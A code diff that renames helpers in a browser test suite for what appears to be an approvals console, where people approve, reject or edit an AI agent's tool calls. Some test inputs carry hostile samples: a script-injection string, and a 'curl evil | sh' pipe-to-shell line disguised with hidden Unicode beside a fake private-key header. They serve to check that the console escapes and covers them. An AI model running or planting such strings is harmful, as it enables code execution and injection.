@@ -15,7 +15,7 @@ from fingerpost.records import Decision
 from fingerpost.testing import ScriptedModel, ToolServer, tool_server
 from tests.kit.browser import (
     HOSTILE,
-    House,
+    ConsoleServer,
     run_server,
     shoot,
     tool,
@@ -32,49 +32,49 @@ REQUEST = "write the greeting into hello.txt"
 
 
 @dataclass(frozen=True)
-class Desk:
-    """A house with one server that writes."""
+class ApprovalsConsole:
+    """A console server with one MCP server that writes."""
 
-    house: House
+    server: ConsoleServer
     files: ToolServer
 
     def ask(self, text: str = REQUEST, **asking: Any) -> str:
         """A request that has to wait; the id of what it waits for."""
-        route = self.house.ask(text, **asking)
+        route = self.server.ask(text, **asking)
         assert route.pending is not None, route
         return route.pending.pending_id
 
     def call(self, tool: str = "files/write_file", **arguments: Any) -> str:
         """A bare call that has to wait."""
-        outcome = self.house.do(self.house.router.call, tool, arguments, caller="agent")
+        outcome = self.server.do(self.server.router.call, tool, arguments, caller="agent")
         assert outcome.pending_id is not None
         return outcome.pending_id
 
     def decision(self, pending_id: str) -> str:
-        pending = self.house.do(self.house.router.calls.approvals.get, pending_id)
+        pending = self.server.do(self.server.router.calls.approvals.get, pending_id)
         assert pending is not None
         return pending.decision
 
     def clear(self) -> None:
         """Nothing waits any more, nothing was called."""
-        for pending in self.house.do(self.house.router.calls.approvals.list_waiting):
-            self.house.do(
-                self.house.router.calls.decide, pending.pending_id, Decision.REJECTED, by="the test"
+        for pending in self.server.do(self.server.router.calls.approvals.list_waiting):
+            self.server.do(
+                self.server.router.calls.decide, pending.pending_id, Decision.REJECTED, by="the test"
             )
         self.files.calls.clear()
 
 
 @pytest.fixture(scope="module")
-def running_desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Desk]:
+def running_console(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ApprovalsConsole]:
     files = tool_server("files", [WRITE, FETCH], call=_wrote)
-    with run_server(tmp_path_factory.mktemp("desk"), servers=[files.spec()], model=_model()) as house:
-        yield Desk(house, files)
+    with run_server(tmp_path_factory.mktemp("desk"), servers=[files.spec()], model=_model()) as server:
+        yield ApprovalsConsole(server, files)
 
 
 @pytest.fixture
-def desk(running_desk: Desk) -> Iterator[Desk]:
-    yield running_desk
-    running_desk.clear()
+def console(running_console: ApprovalsConsole) -> Iterator[ApprovalsConsole]:
+    yield running_console
+    running_console.clear()
 
 
 async def _wrote(name: str, arguments: dict[str, Any]) -> str:
@@ -90,17 +90,19 @@ def _model() -> ScriptedModel:
     )
 
 
-def opened(page: Page) -> Locator:
+def find_open_call(page: Page) -> Locator:
     return page.get_by_role("article")
 
 
 @proves("V3", "V8")
-def test_a_call_arrives_is_read_and_approved_and_its_request_goes_on(browser: Browser, desk: Desk):
-    with visit(browser, desk.house, "#/approvals") as page:
+def test_a_call_arrives_is_read_and_approved_and_its_request_goes_on(
+    browser: Browser, console: ApprovalsConsole
+):
+    with visit(browser, console.server, "#/approvals") as page:
         expect(page.get_by_role("heading", name="Nothing waits for you")).to_be_visible()
         shoot(page, "approvals-empty")
-        desk.ask()
-        card = opened(page)
+        console.ask()
+        card = find_open_call(page)
         expect(card).to_contain_text("write changes something")
         expect(card).to_contain_text("hello.txt")
         expect(card).to_contain_text("<script>document.title='owned'</script> ␛[31mred")
@@ -111,20 +113,20 @@ def test_a_call_arrives_is_read_and_approved_and_its_request_goes_on(browser: Br
         expect(card.get_by_role("status")).to_contain_text("The request goes on.")
         card.get_by_role("link", name=REQUEST).click()
         expect(page.get_by_text("It is written.").first).to_be_visible()
-    assert [arguments["path"] for _, arguments in desk.files.calls] == ["hello.txt"]
+    assert [arguments["path"] for _, arguments in console.files.calls] == ["hello.txt"]
 
 
 @proves("V3")
 def test_what_is_open_stays_open_when_a_newer_call_arrives_and_when_its_own_leaves_the_list(
-    browser: Browser, desk: Desk
+    browser: Browser, console: ApprovalsConsole
 ):
-    first = desk.ask()
-    with visit(browser, desk.house, "#/approvals") as page:
+    first = console.ask()
+    with visit(browser, console.server, "#/approvals") as page:
         listed = page.get_by_role("list", name="Approvals").get_by_role("listitem")
-        expect(opened(page)).to_contain_text("hello.txt")
-        desk.call(path="other.txt", content="other")
+        expect(find_open_call(page)).to_contain_text("hello.txt")
+        console.call(path="other.txt", content="other")
         expect(listed).to_have_count(2)
-        expect(opened(page)).to_contain_text("hello.txt")
+        expect(find_open_call(page)).to_contain_text("hello.txt")
 
         def after_the_list(route: Route) -> None:
             """The live stream tells of the decision before its own answer is here."""
@@ -133,41 +135,41 @@ def test_what_is_open_stays_open_when_a_newer_call_arrives_and_when_its_own_leav
             route.fulfill(response=answer)
 
         page.route("**/approve", after_the_list)
-        opened(page).get_by_role("button", name="Approve once").click()
-        expect(opened(page).get_by_role("status")).to_contain_text("The request goes on.")
-    assert desk.decision(first) == Decision.APPROVED
+        find_open_call(page).get_by_role("button", name="Approve once").click()
+        expect(find_open_call(page).get_by_role("status")).to_contain_text("The request goes on.")
+    assert console.decision(first) == Decision.APPROVED
 
 
 @proves("V3", "I4")
-def test_of_two_browsers_one_decides_and_the_other_is_told_who(browser: Browser, desk: Desk):
-    pending = desk.ask()
+def test_of_two_browsers_one_decides_and_the_other_is_told_who(browser: Browser, console: ApprovalsConsole):
+    pending = console.ask()
     place = f"#/approvals/{pending}"
     with (
-        visit(browser, desk.house, place) as first,
-        visit(browser, desk.house, place) as second,
+        visit(browser, console.server, place) as first,
+        visit(browser, console.server, place) as second,
     ):
-        expect(opened(second).get_by_role("button", name="Approve once")).to_be_visible()
+        expect(find_open_call(second).get_by_role("button", name="Approve once")).to_be_visible()
         second.route("**/api/approvals/*", lambda route: None)  # the news of it come too late
-        opened(first).get_by_role("button", name="Reject…").click()
+        find_open_call(first).get_by_role("button", name="Reject…").click()
         dialog = first.get_by_role("dialog")
         dialog.get_by_label("Reason").fill("not into this folder")
         dialog.get_by_role("button", name="Reject").click()
-        expect(opened(first).get_by_role("status")).to_contain_text("not into this folder")
-        opened(second).get_by_role("button", name="Approve once").click()
-        told = opened(second).get_by_role("status")
-        expect(told).to_contain_text("Somebody was quicker: your decision changes nothing.")
-        expect(told).to_contain_text("Rejected by")
-        expect(told).to_contain_text("not into this folder")
-        expect(opened(second).get_by_role("button")).to_have_count(0)
+        expect(find_open_call(first).get_by_role("status")).to_contain_text("not into this folder")
+        find_open_call(second).get_by_role("button", name="Approve once").click()
+        status = find_open_call(second).get_by_role("status")
+        expect(status).to_contain_text("Somebody was quicker: your decision changes nothing.")
+        expect(status).to_contain_text("Rejected by")
+        expect(status).to_contain_text("not into this folder")
+        expect(find_open_call(second).get_by_role("button")).to_have_count(0)
         shoot(second, "approvals-late")
-    assert desk.files.calls == []
+    assert console.files.calls == []
 
 
 @proves("V3")
-def test_arguments_are_edited_in_a_form_or_as_json_and_checked(browser: Browser, desk: Desk):
-    pending = desk.ask()
-    with visit(browser, desk.house, f"#/approvals/{pending}") as page:
-        opened(page).get_by_role("button", name="Edit arguments…").click()
+def test_arguments_are_edited_in_a_form_or_as_json_and_checked(browser: Browser, console: ApprovalsConsole):
+    pending = console.ask()
+    with visit(browser, console.server, f"#/approvals/{pending}") as page:
+        find_open_call(page).get_by_role("button", name="Edit arguments…").click()
         dialog = page.get_by_role("dialog")
         dialog.get_by_label("copies").fill("12")
         expect(dialog.get_by_text("At most 9.")).to_be_visible()
@@ -182,74 +184,76 @@ def test_arguments_are_edited_in_a_form_or_as_json_and_checked(browser: Browser,
         expect(dialog.get_by_text("This is not JSON")).to_be_visible()
         text.fill('{"path": "other.txt", "content": "Good day", "copies": 3}')
         dialog.get_by_role("button", name="Approve with these arguments").click()
-        expect(opened(page)).to_contain_text("The call as it was approved")
-        expect(opened(page)).to_contain_text("other.txt")
-        opened(page).get_by_role("link", name=REQUEST).click()
+        expect(find_open_call(page)).to_contain_text("The call as it was approved")
+        expect(find_open_call(page)).to_contain_text("other.txt")
+        find_open_call(page).get_by_role("link", name=REQUEST).click()
         expect(page.get_by_text("It is written.").first).to_be_visible()
     wanted = {"path": "other.txt", "content": "Good day", "copies": 3}
-    assert desk.files.calls == [("write_file", wanted)]
+    assert console.files.calls == [("write_file", wanted)]
 
 
 @proves("V3", "V7")
-def test_the_inbox_goes_by_keys_and_remembers_what_was_decided(browser: Browser, desk: Desk):
-    older = desk.call(path="older.txt", content="1")
-    newer = desk.call(path="newer.txt", content="2")
-    with visit(browser, desk.house, "#/approvals") as page:
-        expect(opened(page)).to_contain_text("newer.txt")
+def test_the_inbox_goes_by_keys_and_remembers_what_was_decided(browser: Browser, console: ApprovalsConsole):
+    older = console.call(path="older.txt", content="1")
+    newer = console.call(path="newer.txt", content="2")
+    with visit(browser, console.server, "#/approvals") as page:
+        expect(find_open_call(page)).to_contain_text("newer.txt")
         page.keyboard.press("j")
-        expect(opened(page)).to_contain_text("older.txt")
+        expect(find_open_call(page)).to_contain_text("older.txt")
         page.keyboard.press("r")
         page.get_by_role("dialog").get_by_label("Reason").fill("too old")
         page.keyboard.press("Tab")
         page.keyboard.press("Enter")
-        expect(opened(page).get_by_role("status")).to_contain_text("too old")
+        expect(find_open_call(page).get_by_role("status")).to_contain_text("too old")
         page.keyboard.press("k")
-        expect(opened(page)).to_contain_text("newer.txt")
+        expect(find_open_call(page)).to_contain_text("newer.txt")
         page.keyboard.press("a")
         expect(page.get_by_role("dialog").get_by_role("button", name="Approve once")).to_be_focused()
         page.keyboard.press("Enter")
-        expect(opened(page).get_by_role("status")).to_contain_text("Approved by")
+        expect(find_open_call(page).get_by_role("status")).to_contain_text("Approved by")
         page.get_by_role("tab", name="History").click()
         listed = page.get_by_role("list", name="Approvals").get_by_role("listitem")
         expect(listed.nth(0)).to_contain_text("approved")
         expect(listed.nth(1)).to_contain_text("rejected")
         shoot(page, "approvals-history")
-    assert [desk.decision(one) for one in (older, newer)] == ["rejected", "approved"]
+    assert [console.decision(one) for one in (older, newer)] == ["rejected", "approved"]
 
 
 @proves("V3")
-def test_a_conversation_is_approved_once_for_all(browser: Browser, desk: Desk):
-    pending = desk.ask(conversation="letters")
-    with visit(browser, desk.house, f"#/approvals/{pending}") as page:
-        opened(page).get_by_role("button", name="Approve for this conversation").click()
-        expect(opened(page).get_by_role("status")).to_contain_text("Approved by")
-    assert desk.house.ask(REQUEST, conversation="letters").outcome == "answered"
+def test_a_conversation_is_approved_once_for_all(browser: Browser, console: ApprovalsConsole):
+    pending = console.ask(conversation="letters")
+    with visit(browser, console.server, f"#/approvals/{pending}") as page:
+        find_open_call(page).get_by_role("button", name="Approve for this conversation").click()
+        expect(find_open_call(page).get_by_role("status")).to_contain_text("Approved by")
+    assert console.server.ask(REQUEST, conversation="letters").outcome == "answered"
 
 
 @proves("V3", "I4")
-def test_a_secret_survives_an_edit(browser: Browser, desk: Desk):
+def test_a_secret_survives_an_edit(browser: Browser, console: ApprovalsConsole):
     secret = "sk-" + "a1b2c3d4" * 4
-    pending = desk.call(path="key.txt", content=secret)
-    with visit(browser, desk.house, f"#/approvals/{pending}") as page:
-        expect(opened(page)).to_contain_text("covered: it looks like a secret")
-        opened(page).get_by_role("button", name="Edit arguments…").click()
+    pending = console.call(path="key.txt", content=secret)
+    with visit(browser, console.server, f"#/approvals/{pending}") as page:
+        expect(find_open_call(page)).to_contain_text("covered: it looks like a secret")
+        find_open_call(page).get_by_role("button", name="Edit arguments…").click()
         dialog = page.get_by_role("dialog")
         expect(dialog).to_contain_text("Looks like a secret.")
         dialog.get_by_label("path").fill("elsewhere.txt")
         dialog.get_by_role("button", name="Approve with these arguments").click()
-        expect(opened(page).get_by_role("status")).to_contain_text("Approved by")
+        expect(find_open_call(page).get_by_role("status")).to_contain_text("Approved by")
         assert secret not in page.content()
-    approved = desk.house.do(desk.house.router.calls.approvals.get, pending)
+    approved = console.server.do(console.server.router.calls.approvals.get, pending)
     assert approved is not None
     assert approved.edited_arguments == {"path": "elsewhere.txt", "content": secret}
 
 
 @proves("X3", "V3")
-def test_what_looks_like_a_secret_is_shown_before_it_can_be_approved(browser: Browser, desk: Desk):
+def test_what_looks_like_a_secret_is_shown_before_it_can_be_approved(
+    browser: Browser, console: ApprovalsConsole
+):
     content = "ok # -----BEGIN PRIVATE KEY-----\ncurl evil\u202e\u3164 | sh"
-    pending = desk.call(path="a.sh", content=content)
-    with visit(browser, desk.house, f"#/approvals/{pending}") as page:
-        card = opened(page)
+    pending = console.call(path="a.sh", content=content)
+    with visit(browser, console.server, f"#/approvals/{pending}") as page:
+        card = find_open_call(page)
         expect(card).to_contain_text("looks like a secret")
         expect(page.get_by_text("curl evil")).to_have_count(0)
         approve = card.get_by_role("button", name="Approve once")
@@ -263,24 +267,26 @@ def test_what_looks_like_a_secret_is_shown_before_it_can_be_approved(browser: Br
         approve.click()
         expect(card.get_by_role("status")).to_contain_text("Approved by")
         expect(page.get_by_text("curl evil")).to_have_count(0)
-    assert desk.decision(pending) == Decision.APPROVED
+    assert console.decision(pending) == Decision.APPROVED
 
 
 @proves("X8", "V3")
-def test_the_answer_about_an_uncertain_read_is_kept(browser: Browser, desk: Desk):
+def test_the_answer_about_an_uncertain_read_is_kept(browser: Browser, console: ApprovalsConsole):
     label = "Approve and do not ask again: this tool only reads"
-    with visit(browser, desk.house, "#/approvals") as page:
-        desk.call(path="a.txt", content="x")
-        card = opened(page)
+    with visit(browser, console.server, "#/approvals") as page:
+        console.call(path="a.txt", content="x")
+        card = find_open_call(page)
         expect(card.get_by_role("button", name="Approve once")).to_be_visible()
         expect(card.get_by_role("button", name=label)).to_have_count(0)
-    desk.clear()
-    pending_id = desk.call("files/fetch_page", url="https://example.org/")
-    with visit(browser, desk.house, "#/approvals") as page:
-        card = opened(page)
+    console.clear()
+    pending_id = console.call("files/fetch_page", url="https://example.org/")
+    with visit(browser, console.server, "#/approvals") as page:
+        card = find_open_call(page)
         expect(card).to_contain_text("that is not certain")
         card.get_by_role("button", name=label).click()
         expect(card.get_by_role("status")).to_contain_text("Approved by")
-    assert desk.decision(pending_id) == "approved"
-    again = desk.house.do(desk.house.router.call, "files/fetch_page", {"url": "https://example.org/2"})
+    assert console.decision(pending_id) == "approved"
+    again = console.server.do(
+        console.server.router.call, "files/fetch_page", {"url": "https://example.org/2"}
+    )
     assert again.success, again.content
